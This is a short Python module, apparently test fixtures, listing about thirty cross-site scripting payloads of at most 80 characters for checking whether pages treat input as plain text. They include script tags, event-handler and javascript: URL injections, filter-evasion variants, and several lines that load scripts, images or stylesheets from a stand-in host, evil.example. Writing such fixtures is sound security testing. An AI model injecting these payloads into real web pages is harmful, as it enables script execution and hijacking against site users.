"""
Texts that would run, load or change something if any page took them for more than text. Each has
at most 80 characters, so that it fits the shortest field that people fill in.
"""

ALERT = "alert(1)"

SCRIPTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/a.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=//evil.example/canary.png>",
    '<img srcset="//evil.example/canary.png 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=javascript:alert(1)>x</mi></math>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)`",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a>",
    "<!--><style>*{display:none}</style><script>alert(1)</script>-->",
]
